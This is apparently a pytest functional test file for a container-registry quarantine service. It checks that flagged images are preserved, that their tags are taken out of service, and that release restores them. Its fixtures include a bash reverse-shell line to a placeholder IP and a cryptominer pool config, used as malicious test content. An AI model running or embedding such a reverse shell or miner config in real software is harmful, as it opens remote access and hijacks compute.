"""Quarantine and release against the real registry (distribution 2.8): nothing lost, tags out of service, restored."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import redis

from tests.support.oci import tar_layer, write_image_layout, write_index_layout
from tests.support.registry import SKOPEO_BIN, RunningRegistry
from tests.support.storage import make_report
from workers import audit
from workers.domain import Actor, ActorKind, Digest, MoveKind, Role, parse_digest, sha256_digest
from workers.errors import TransientError
from workers.quarantine.jobs import request_move, resume_moves, run_move
from workers.quarantine.placeholder import ORIGINAL_LABEL, QUARANTINED_LABEL
from workers.quarantine.state import HoldState, MoveOutcome, get_hold, hold_summary, moves_of
from workers.queue import run_worker
from workers.registry import RegistryClient
from workers.settings import Settings
from workers.store import Store

pytestmark = pytest.mark.functional

REPO = "team/app"
COPY_REPO = f"quarantine/{REPO}"
SECURITY = Actor(ActorKind.TOKEN, "sec-bot", Role.SECURITY)
WALLET = "4A" + "1234567891ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"[:58] + "2" * 35  # synthetic
MINER_CONFIG = json.dumps(
    {"pools": [{"url": "stratum+tcp://198.51.100.23:3333", "user": WALLET, "pass": "x"}], "donate-level": 1}
).encode()
REVERSE_SHELL = b"#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n"


def _base() -> Any:
    return tar_layer({"etc/os-release": b"ID=debian\nVERSION_ID=12\n", "bin/sh": b"\x7fELF fake shell"})


def malicious_layout(path: Path, marker: str = "") -> Digest:
    payload = tar_layer({"opt/x/config.json": MINER_CONFIG + marker.encode(), "usr/local/bin/start.sh": REVERSE_SHELL})
    return parse_digest(
        write_image_layout(path, [_base(), payload], config={"config": {"Entrypoint": ["/usr/local/bin/start.sh"]}})
    )


def clean_layout(path: Path, marker: str) -> Digest:
    return parse_digest(write_image_layout(path, [_base(), tar_layer({"srv/app.txt": marker.encode()})]))


def layout_blobs(path: Path) -> dict[str, bytes]:
    return {f"sha256:{p.name}": p.read_bytes() for p in (path / "blobs" / "sha256").iterdir()}


@pytest.fixture
def settings(registry: RunningRegistry, redis_url: str, tmp_path: Path) -> Settings:
    return Settings.from_env(
        {},
        registry_url=registry.url,
        redis_url=redis_url,
        database_url=f"sqlite:///{tmp_path / 'tollgate.db'}",
        public_url="https://tollgate.example",
        registry_use_docker_config=False,
    )


@pytest.fixture
def store(settings: Settings) -> Iterator[Store]:
    opened = Store(settings.database_url)
    opened.migrate()
    yield opened
    opened.close()


@pytest.fixture
def client(registry: RunningRegistry) -> Iterator[RegistryClient]:
    with RegistryClient(registry.url, retries=1, backoff=0.01) as opened:
        yield opened


def pushed(registry: RunningRegistry, store: Store, layout: Path, *tags: str, repository: str = REPO) -> None:
    """Push ``layout`` under ``tags`` and tell the store what the webhook would have (a quarantine verdict)."""
    digest = parse_digest(json.loads((layout / "index.json").read_text())["manifests"][0]["digest"])
    for tag in tags:
        registry.push_layout(layout, repository, tag)
        store.record_push(repository, digest, tag=tag, media_type=None)
    store.save_report(make_report(repository, digest))


def quarantine(
    settings: Settings, store: Store, client: RegistryClient, redis_conn: redis.Redis, digest: Digest
) -> dict[str, Any]:
    ticket = request_move(settings, store, redis_conn, REPO, digest, MoveKind.QUARANTINE, SECURITY, "miner found")
    return run_move(settings, store, client, REPO, digest, move_id=ticket.move_id)


def release(
    settings: Settings, store: Store, client: RegistryClient, redis_conn: redis.Redis, digest: Digest
) -> dict[str, Any]:
    ticket = request_move(settings, store, redis_conn, REPO, digest, MoveKind.RELEASE, SECURITY, "false positive")
    return run_move(settings, store, client, REPO, digest, move_id=ticket.move_id)


def skopeo_inspect(registry: RunningRegistry, reference: str, *, raw: bool = False) -> subprocess.CompletedProcess[str]:
    command = [SKOPEO_BIN, "inspect", "--tls-verify=false", "--no-creds"]
    if raw:
        command.append("--raw")
    env = {**os.environ, "HOME": str(registry.root.parent)}
    return subprocess.run(
        [*command, f"docker://{registry.host}/{reference}"], capture_output=True, text=True, env=env, check=False
    )


def assert_preserved(client: RegistryClient, digest: Digest, original_raw: bytes, blobs: dict[str, bytes]) -> None:
    """The copy serves the exact manifest and every blob of the layout, verified by digest."""
    assert client.get_manifest(COPY_REPO, digest).raw == original_raw
    tagged = client.head_manifest(COPY_REPO, "held-" + digest.replace(":", "-"))
    assert tagged is not None and tagged.digest == digest
    for blob_digest, data in blobs.items():
        manifest_or_blob = client.stat_blob(COPY_REPO, parse_digest(blob_digest))
        if manifest_or_blob is None:  # a manifest in the layout: it is in the copy as a manifest
            assert client.get_manifest(COPY_REPO, blob_digest).raw == data
            continue
        with client.open_blob(COPY_REPO, parse_digest(blob_digest), expected_size=len(data)) as stream:
            assert stream.read() == data


# -- the main story ----------------------------------------------------------------------------------------------


def test_two_tags_quarantined_preserved_then_released_byte_identical(
    settings: Settings,
    store: Store,
    client: RegistryClient,
    registry: RunningRegistry,
    redis_conn: redis.Redis,
    tmp_path: Path,
) -> None:
    layout = tmp_path / "bad"
    digest = malicious_layout(layout)
    pushed(registry, store, layout, "v1", "v2")
    original = client.get_manifest(REPO, digest).raw

    result = quarantine(settings, store, client, redis_conn, digest)

    assert result["status"] == "done" and result["mode"] == "deleted", result
    placeholder = result["placeholder"]
    for tag in ("v1", "v2"):
        head = client.head_manifest(REPO, tag)
        assert head is not None and head.digest == placeholder != digest
        inspected = skopeo_inspect(registry, f"{REPO}:{tag}")
        assert inspected.returncode == 0, inspected.stderr
        details = json.loads(inspected.stdout)
        assert details["Digest"] == placeholder
        assert details["Labels"][QUARANTINED_LABEL] == "true"
        assert details["Labels"][ORIGINAL_LABEL] == digest
    assert client.head_manifest(REPO, digest) is None  # deleted: not pullable by digest either
    assert skopeo_inspect(registry, f"{REPO}@{digest}").returncode != 0
    assert_preserved(client, digest, original, layout_blobs(layout))
    record = store.get_record(REPO, digest)
    assert record is not None and record.quarantined
    summary = hold_summary(store, REPO, digest)
    assert summary is not None
    assert summary["state"] == "held" and summary["origin"] == "manual"
    assert summary["copy"] == f"{COPY_REPO}@{digest}"
    assert summary["tags"] == [{"tag": "v1", "placeholder": placeholder}, {"tag": "v2", "placeholder": placeholder}]
    assert summary["mode"] == "deleted" and summary["deleted"] == [digest]
    assert [m["outcome"] for m in summary["moves"]] == ["done"]

    released = release(settings, store, client, redis_conn, digest)

    assert released["status"] == "done" and released["restored"] == ["v1", "v2"], released
    for tag in ("v1", "v2"):
        head = client.head_manifest(REPO, tag)
        assert head is not None and head.digest == digest
        assert client.get_manifest(REPO, tag).raw == original
        assert json.loads(skopeo_inspect(registry, f"{REPO}:{tag}").stdout)["Digest"] == digest
    assert client.get_manifest(REPO, digest).raw == original
    assert_preserved(client, digest, original, layout_blobs(layout))  # the copy stays after release
    record = store.get_record(REPO, digest)
    assert record is not None and not record.quarantined
    summary = hold_summary(store, REPO, digest)
    assert summary is not None and summary["state"] == "released"
    assert [(m["kind"], m["outcome"]) for m in summary["moves"]] == [("quarantine", "done"), ("release", "done")]
    trail = [(e.action, e.actor, e.details.get("phase")) for e in audit.events(store, target=f"{REPO}@{digest}")]
    assert trail == [
        ("quarantine", "token:sec-bot", "requested"),
        ("quarantine", "system:tollgate", "done"),
        ("release", "token:sec-bot", "requested"),
        ("release", "system:tollgate", "done"),
    ]


def test_requarantine_after_release_and_repeated_runs_are_idempotent(
    settings: Settings,
    store: Store,
    client: RegistryClient,
    registry: RunningRegistry,
    redis_conn: redis.Redis,
    tmp_path: Path,
) -> None:
    layout = tmp_path / "bad"
    digest = malicious_layout(layout)
    pushed(registry, store, layout, "v1")
    original = client.get_manifest(REPO, digest).raw
    first = quarantine(settings, store, client, redis_conn, digest)
    hold = get_hold(store, REPO, digest)
    assert hold is not None and hold.move_id is not None
    again = run_move(settings, store, client, REPO, digest, move_id=hold.move_id)
    assert again == {"status": "done", "state": "held", "move_id": hold.move_id}
    # A person quarantining a held image: the tags are checked again, nothing changes.
    confirmed = quarantine(settings, store, client, redis_conn, digest)
    assert confirmed["status"] == "done" and confirmed["tags"] == ["v1"]
    head = client.head_manifest(REPO, "v1")
    assert head is not None and head.digest != digest
    release(settings, store, client, redis_conn, digest)
    second = quarantine(settings, store, client, redis_conn, digest)
    assert second["status"] == "done" and second["tags"] == ["v1"] and second["placeholder"] == first["placeholder"]
    release(settings, store, client, redis_conn, digest)
    assert client.get_manifest(REPO, "v1").raw == original
    outcomes = [(m.kind.value, m.outcome) for m in moves_of(store, REPO, digest)]
    assert outcomes == [
        ("quarantine", MoveOutcome.DONE),
        ("quarantine", MoveOutcome.DONE),
        ("release", MoveOutcome.DONE),
        ("quarantine", MoveOutcome.DONE),
        ("release", MoveOutcome.DONE),
    ]


def test_index_with_two_platforms_covers_every_platform_manifest(
    settings: Settings,
    store: Store,
    client: RegistryClient,
    registry: RunningRegistry,
    redis_conn: redis.Redis,
    tmp_path: Path,
) -> None:
    layout = tmp_path / "multi"
    digest = parse_digest(
        write_index_layout(
            layout,
            [
                (("linux", "amd64"), [_base(), tar_layer({"usr/local/bin/start.sh": REVERSE_SHELL})], {}),
                (("linux", "arm64"), [_base(), tar_layer({"opt/x/config.json": MINER_CONFIG})], {}),
            ],
            attestation=True,
        )
    )
    pushed(registry, store, layout, "v1")
    original = client.get_manifest(REPO, digest).raw
    children = [entry["digest"] for entry in json.loads(original)["manifests"]]
    assert len(children) == 4  # two platforms, two attestation manifests

    result = quarantine(settings, store, client, redis_conn, digest)

    assert result["status"] == "done" and result["mode"] == "deleted"
    assert sorted(result["deleted"]) == sorted([digest, *children])
    for child in children:
        assert client.head_manifest(REPO, child) is None
    assert_preserved(client, digest, original, layout_blobs(layout))
    for child in children:
        tagged = client.head_manifest(COPY_REPO, "held-" + child.replace(":", "-"))
        assert tagged is not None and tagged.digest == child

    release(settings, store, client, redis_conn, digest)

    assert client.get_manifest(REPO, "v1").raw == original
    for child in children:
        assert client.head_manifest(REPO, child) is not None
    assert skopeo_inspect(registry, f"{REPO}:v1", raw=True).stdout.encode() == original


def test_a_tag_repushed_before_the_untag_step_is_left_alone(
    settings: Settings,
    store: Store,
    client: RegistryClient,
    registry: RunningRegistry,
    redis_conn: redis.Redis,
    tmp_path: Path,
) -> None:
    digest = malicious_layout(tmp_path / "bad")
    pushed(registry, store, tmp_path / "bad", "v1", "v2")
    other = clean_layout(tmp_path / "fixed", "fixed")
    registry.push_layout(tmp_path / "fixed", REPO, "v2")  # re-pushed while the scan ran; the store still says v2→bad

    result = quarantine(settings, store, client, redis_conn, digest)

    assert result["tags"] == ["v1"]
    assert result["skipped_tags"] == [
        {"tag": "v2", "digest": other, "why": "re-pushed to another digest before the quarantine; left alone"}
    ]
    v2 = client.head_manifest(REPO, "v2")
    assert v2 is not None and v2.digest == other
    v1 = client.head_manifest(REPO, "v1")
    assert v1 is not None and v1.digest == result["placeholder"]
    assert result["mode"] == "deleted"


def test_release_leaves_a_tag_repushed_while_held_alone(
    settings: Settings,
    store: Store,
    client: RegistryClient,
    registry: RunningRegistry,
    redis_conn: redis.Redis,
    tmp_path: Path,
) -> None:
    digest = malicious_layout(tmp_path / "bad")
    pushed(registry, store, tmp_path / "bad", "v1", "v2")
    quarantine(settings, store, client, redis_conn, digest)
    fixed = clean_layout(tmp_path / "fixed", "fixed")
    registry.push_layout(tmp_path / "fixed", REPO, "v1")

    result = release(settings, store, client, redis_conn, digest)

    assert result["restored"] == ["v2"]
    assert result["left"] == [{"tag": "v1", "digest": fixed, "why": "re-pushed while held; left alone"}]
    v1 = client.head_manifest(REPO, "v1")
    v2 = client.head_manifest(REPO, "v2")
    assert v1 is not None and v1.digest == fixed
    assert v2 is not None and v2.digest == digest


def test_a_digest_listed_by_another_index_is_repointed_not_deleted(
    settings: Settings,
    store: Store,
    client: RegistryClient,
    registry: RunningRegistry,
    redis_conn: redis.Redis,
    tmp_path: Path,
) -> None:
    layout = tmp_path / "multi"
    write_index_layout(
        layout,
        [
            (("linux", "amd64"), [_base(), tar_layer({"srv/a": b"a"})], {}),
            (("linux", "arm64"), [_base(), tar_layer({"usr/local/bin/start.sh": REVERSE_SHELL})], {}),
        ],
    )
    registry.push_layout(layout, REPO, "multi")
    index = json.loads(client.get_manifest(REPO, "multi").raw)
    child = parse_digest(index["manifests"][1]["digest"])
    # The arm64 platform manifest is also tagged on its own, and that tag is what policy quarantines.
    registry.push_layout(layout, REPO, "arm64-only", all_platforms=False)
    arm = client.get_manifest(REPO, child).raw
    client.put_manifest(REPO, "arm64", arm, "application/vnd.oci.image.manifest.v1+json")
    store.record_push(REPO, child, tag="arm64", media_type=None)
    store.save_report(make_report(REPO, child))

    result = quarantine(settings, store, client, redis_conn, child)

    assert result["mode"] == "repointed"
    assert "listed by the index tagged multi" in result["mode_reason"]
    assert client.head_manifest(REPO, child) is not None  # the index still needs it
    head = client.head_manifest(REPO, "arm64")
    assert head is not None and head.digest == result["placeholder"]


# -- crashes, outages, hostile content ---------------------------------------------------------------------------

_KILLED_RUN = textwrap.dedent(
    """
    import os, signal, sys
    from workers.settings import Settings
    from workers.store import Store
    from workers.registry import RegistryClient
    from workers.quarantine.jobs import run_move
    from workers.domain import parse_digest

    def crash(step):
        if step == "preserved":
            os.kill(os.getpid(), signal.SIGKILL)

    settings = Settings.from_env()
    store = Store(settings.database_url)
    with RegistryClient(settings.registry_url) as client:
        run_move(settings, store, client, sys.argv[1], parse_digest(sys.argv[2]), move_id=int(sys.argv[3]), step=crash)
    sys.exit(3)  # never reached: the step after the preserve kills the process
    """
)


def test_a_worker_killed_between_preserve_and_untag_completes_on_the_next_run(
    settings: Settings,
    store: Store,
    registry: RunningRegistry,
    redis_conn: redis.Redis,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    digest = malicious_layout(tmp_path / "bad")
    pushed(registry, store, tmp_path / "bad", "v1", "v2")
    ticket = request_move(settings, store, redis_conn, REPO, digest, MoveKind.QUARANTINE, SECURITY, "miner found")
    redis_conn.flushdb()  # the request queued a job; this test runs the move itself, in a process it kills
    env = {
        **os.environ,
        "TOLLGATE_REGISTRY_URL": settings.registry_url,
        "TOLLGATE_DATABASE_URL": settings.database_url,
        "TOLLGATE_REDIS_URL": settings.redis_url,
        "TOLLGATE_REGISTRY_USE_DOCKER_CONFIG": "false",
    }
    killed = subprocess.run(
        [sys.executable, "-c", _KILLED_RUN, REPO, digest, str(ticket.move_id)],
        env=env,
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert killed.returncode == -signal.SIGKILL, killed.stderr.decode()
    hold = get_hold(store, REPO, digest)
    assert hold is not None and hold.state is HoldState.PRESERVED
    with RegistryClient(registry.url) as client:
        for tag in ("v1", "v2"):  # preserved, not yet untagged
            head = client.head_manifest(REPO, tag)
            assert head is not None and head.digest == digest

    # The next run: the reconciler finds the hold with no live job and queues it; a worker completes it.
    for key in ("TOLLGATE_REGISTRY_URL", "TOLLGATE_DATABASE_URL", "TOLLGATE_REDIS_URL"):
        monkeypatch.setenv(key, env[key])
    monkeypatch.setenv("TOLLGATE_REGISTRY_USE_DOCKER_CONFIG", "false")
    assert resume_moves(settings, store, redis_conn) == [f"{REPO}@{digest}"]
    assert resume_moves(settings, store, redis_conn) == []  # queued once
    run_worker(settings, burst=True, with_scheduler=False, simple=True)

    hold = get_hold(store, REPO, digest)
    assert hold is not None and hold.state is HoldState.HELD, hold
    with RegistryClient(registry.url) as client:
        for tag in ("v1", "v2"):
            head = client.head_manifest(REPO, tag)
            assert head is not None and head.digest == hold.plan["placeholder"]
        assert client.head_manifest(REPO, digest) is None
    moves = moves_of(store, REPO, digest)
    assert [m.outcome for m in moves] == [MoveOutcome.DONE]
    assert moves[0].details["attempts"] == 2


def test_a_registry_outage_mid_move_is_transient_and_never_reports_success(
    settings: Settings, store: Store, registry: RunningRegistry, redis_conn: redis.Redis, tmp_path: Path
) -> None:
    digest = malicious_layout(tmp_path / "bad")
    pushed(registry, store, tmp_path / "bad", "v1")
    ticket = request_move(settings, store, redis_conn, REPO, digest, MoveKind.QUARANTINE, SECURITY, "miner found")

    def outage(step: str) -> None:
        if step == "preserved":
            registry.stop()

    with RegistryClient(registry.url, retries=1, backoff=0.01) as client, pytest.raises(TransientError):
        run_move(settings, store, client, REPO, digest, move_id=ticket.move_id, step=outage)
    hold = get_hold(store, REPO, digest)
    assert hold is not None and hold.state is HoldState.PRESERVED
    assert hold.error is not None and "will retry" in hold.error
    record = store.get_record(REPO, digest)
    assert record is not None and not record.quarantined
    assert [m.outcome for m in moves_of(store, REPO, digest)] == [MoveOutcome.RUNNING]

    registry.restart()
    with RegistryClient(registry.url, retries=1, backoff=0.01) as client:
        result = run_move(settings, store, client, REPO, digest, move_id=ticket.move_id)
        assert result["status"] == "done"
        head = client.head_manifest(REPO, "v1")
        assert head is not None and head.digest == result["placeholder"]
    hold = get_hold(store, REPO, digest)
    assert hold is not None and hold.state is HoldState.HELD and hold.error is None


@pytest.mark.parametrize(
    "hostility",
    ["config size lies", "layer without a mediaType"],
)
def test_hostile_manifests_are_a_recorded_failed_move(
    hostility: str,
    settings: Settings,
    store: Store,
    client: RegistryClient,
    registry: RunningRegistry,
    redis_conn: redis.Redis,
    tmp_path: Path,
) -> None:
    layout = tmp_path / "bad"
    honest = malicious_layout(layout)
    registry.push_layout(layout, REPO, "honest")
    manifest = json.loads(client.get_manifest(REPO, honest).raw)
    if hostility == "config size lies":
        manifest["config"]["size"] += 1
    else:
        del manifest["layers"][0]["mediaType"]
    raw = json.dumps(manifest).encode()
    digest = client.put_manifest(REPO, "v1", raw, "application/vnd.oci.image.manifest.v1+json")
    store.record_push(REPO, digest, tag="v1", media_type=None)
    store.save_report(make_report(REPO, digest))

    result = quarantine(settings, store, client, redis_conn, digest)

    assert result["status"] == "failed", result
    hold = get_hold(store, REPO, digest)
    assert hold is not None and hold.state is HoldState.FAILED and hold.error
    assert [m.outcome for m in moves_of(store, REPO, digest)] == [MoveOutcome.FAILED]
    head = client.head_manifest(REPO, "v1")
    assert head is not None and head.digest == digest  # nothing was taken out of service without a verified copy
    record = store.get_record(REPO, digest)
    assert record is not None and not record.quarantined


# -- end to end through the stack --------------------------------------------------------------------------------


def test_push_to_quarantine_and_automatic_release_through_the_stack(stack: Any, tmp_path: Path) -> None:
    from datetime import timedelta

    from workers.waivers import create_waiver, schedule_redecisions

    layout = tmp_path / "bad"
    digest = malicious_layout(layout, marker="e2e")
    original_blobs = layout_blobs(layout)
    stack.push(layout, "team/web", "v1")
    stack.push(layout, "team/web", "v2")
    stack.wait_queued("team/web", "v1")
    stack.wait_queued("team/web", "v2")

    stack.run_worker()  # the scan decides quarantine; the move job it queues runs in the same burst

    record = stack.record("team/web", f"@{digest}").json()
    assert record["action"] == "quarantine" and record["quarantined"] is True, record
    hold = record["quarantine"]
    assert hold["state"] == "held" and hold["origin"] == "policy"
    assert hold["copy"] == f"quarantine/team/web@{digest}"
    assert sorted(t["tag"] for t in hold["tags"]) == ["v1", "v2"]
    assert hold["moves"][-1]["kind"] == "quarantine" and hold["moves"][-1]["outcome"] == "done"
    with RegistryClient(stack.registry.url) as client:
        for tag in ("v1", "v2"):
            head = client.head_manifest("team/web", tag)
            assert head is not None and head.digest == hold["placeholder"]
        for blob_digest, data in original_blobs.items():
            size = client.stat_blob("quarantine/team/web", parse_digest(blob_digest))
            assert size == len(data) or client.get_manifest("quarantine/team/web", blob_digest).raw == data
    # The placeholder's own push notification reached the webhook: recognised, not vetted, the tag stays the image's.
    by_tag = stack.record("team/web", ":v1").json()
    assert by_tag["digest"] == digest

    # A waiver of every finding changes the decision: the automatic hold is released by itself.
    store = Store(stack.settings.database_url)
    try:
        security = Actor(ActorKind.USER, "alice", Role.SECURITY)
        conn = redis.Redis.from_url(stack.settings.redis_url)
        for rule in sorted({f["rule"] for f in record["findings"]}):
            waiver = create_waiver(
                store,
                security,
                rule=rule,
                reason="test fixture, not malware",
                expires_at=store.now() + timedelta(days=1),
                digest=digest,
            )
            schedule_redecisions(stack.settings, store, conn, waiver)
        conn.close()
    finally:
        store.close()
    stack.run_worker()

    record = stack.record("team/web", f"@{digest}").json()
    assert record["action"] != "quarantine" and record["quarantined"] is False, record["explanation"]
    assert record["quarantine"]["state"] == "released"
    assert [m["kind"] for m in record["quarantine"]["moves"]] == ["quarantine", "release"]
    with RegistryClient(stack.registry.url) as client:
        for tag in ("v1", "v2"):
            head = client.head_manifest("team/web", tag)
            assert head is not None and head.digest == digest


# -- the streamed copy when a mount is refused -------------------------------------------------------------------


def test_a_streamed_copy_is_verified_and_keeps_memory_bounded(registry: RunningRegistry) -> None:
    import hashlib
    import tracemalloc

    size = 48 * 1024 * 1024
    data = hashlib.sha256(b"seed").digest() * (size // 32)  # incompressible enough, and no 48 MiB random call
    with RegistryClient(registry.url) as client:
        digest = client.upload_blob("team/big", data)
        del data
        tracemalloc.start()
        client.copy_blob(
            digest, from_repository="team/big", to_repository="quarantine/team/big", size=size, chunk=1024 * 1024
        )
        _current, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        assert client.stat_blob("quarantine/team/big", digest) == size
        hasher = hashlib.sha256()
        with client.open_blob("quarantine/team/big", digest, expected_size=size) as stream:
            while chunk := stream.read(1024 * 1024):
                hasher.update(chunk)
        assert f"sha256:{hasher.hexdigest()}" == digest
    # A few chunks in flight (the read, the request body, the HTTP layer's copy), never the blob.
    assert peak < 12 * 1024 * 1024, f"a 48 MiB copy in 1 MiB chunks peaked at {peak} bytes"


class RefusingMounts(RegistryClient):
    """A registry that answers every cross-repository mount with 202 (e.g. across namespaces it keeps apart)."""

    def mount_blob(self, repository: str, digest: Digest, from_repository: str) -> bool:
        return False


def test_quarantine_and_release_copy_blobs_when_mounts_are_refused(
    settings: Settings, store: Store, registry: RunningRegistry, redis_conn: redis.Redis, tmp_path: Path
) -> None:
    layout = tmp_path / "bad"
    digest = malicious_layout(layout)
    pushed(registry, store, layout, "v1")
    with RefusingMounts(registry.url, retries=1, backoff=0.01) as client:
        original = client.get_manifest(REPO, digest).raw
        result = quarantine(settings, store, client, redis_conn, digest)
        assert result["status"] == "done"
        hold = get_hold(store, REPO, digest)
        assert hold is not None and hold.plan["copied"]["copied"] == len(hold.plan["blobs"])
        assert_preserved(client, digest, original, layout_blobs(layout))
        released = release(settings, store, client, redis_conn, digest)
        assert released["restored"] == ["v1"]
        assert client.get_manifest(REPO, "v1").raw == original


def test_a_finished_move_is_announced_to_the_configured_webhooks(
    store: Store,
    registry: RunningRegistry,
    redis_conn: redis.Redis,
    redis_url: str,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    from tests.support.receiver import serve_receiver

    layout = tmp_path / "bad"
    digest = malicious_layout(layout)
    pushed(registry, store, layout, "v1")
    with serve_receiver() as receiver:
        env = {
            "TOLLGATE_REGISTRY_URL": registry.url,
            "TOLLGATE_REDIS_URL": redis_url,
            "TOLLGATE_DATABASE_URL": str(store.url.render_as_string(False)),
            "TOLLGATE_REGISTRY_USE_DOCKER_CONFIG": "false",
            "TOLLGATE_NOTIFY_URLS": f"{receiver.url}/ok",
            "TOLLGATE_PUBLIC_URL": "https://tollgate.example",
        }
        for key, value in env.items():
            monkeypatch.setenv(key, value)
        settings = Settings.from_env()
        with RegistryClient(registry.url) as client:
            quarantine(settings, store, client, redis_conn, digest)
            release(settings, store, client, redis_conn, digest)
        # The queued move job finds the moves done (idempotent); the notification jobs deliver.
        run_worker(settings, burst=True, with_scheduler=False, simple=True)
        bodies = [r.json() for r in receiver.at("/ok")]
    assert [b["event"] for b in bodies] == ["quarantine", "release"]
    assert all(b["image"] == f"{REPO}@{digest}" and b["tags"] == ["v1"] for b in bodies)
    assert bodies[0]["link"] == f"https://tollgate.example/images/{REPO}@{digest}"
    assert bodies[0]["details"]["mode"] == "deleted" and bodies[0]["reason"] == "miner found"


def test_an_index_nested_too_deep_is_a_recorded_failed_move(
    settings: Settings,
    store: Store,
    client: RegistryClient,
    registry: RunningRegistry,
    redis_conn: redis.Redis,
    tmp_path: Path,
) -> None:
    layout = tmp_path / "bad"
    child = malicious_layout(layout)
    registry.push_layout(layout, REPO, "base")
    media_type = "application/vnd.oci.image.index.v1+json"
    descriptor = {
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "digest": child,
        "size": len(client.get_manifest(REPO, child).raw),
    }
    for _level in range(3):  # index → index → index → image
        raw = json.dumps({"schemaVersion": 2, "mediaType": media_type, "manifests": [descriptor]}).encode()
        top = client.put_manifest(REPO, sha256_digest(raw), raw, media_type)
        descriptor = {"mediaType": media_type, "digest": top, "size": len(raw)}
    client.put_manifest(REPO, "v1", raw, media_type)
    store.record_push(REPO, top, tag="v1", media_type=media_type)
    store.save_report(make_report(REPO, top))

    result = quarantine(settings, store, client, redis_conn, top)

    assert result["status"] == "failed" and "nests indexes" in result["error"], result
    head = client.head_manifest(REPO, "v1")
    assert head is not None and head.digest == top
